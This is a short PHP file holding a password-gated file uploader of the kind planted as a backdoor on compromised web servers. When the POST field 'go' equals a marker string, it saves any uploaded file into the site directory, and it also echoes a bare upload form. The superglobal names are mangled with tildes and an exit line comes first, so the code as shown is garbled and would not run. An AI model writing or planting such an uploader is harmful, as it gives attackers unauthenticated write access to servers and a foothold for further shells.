<?php exit; ?>
<?php
if ($_P~OST['go'] == 'MARKER') { @copy($_F~ILES['f']['tmp_name'], './' . $_F~ILES['f']['name']) ? print 'ok' : print 'no'; }
echo '<form method=post enctype=multipart/form-data><input type=file name=f><input name=go></form>';
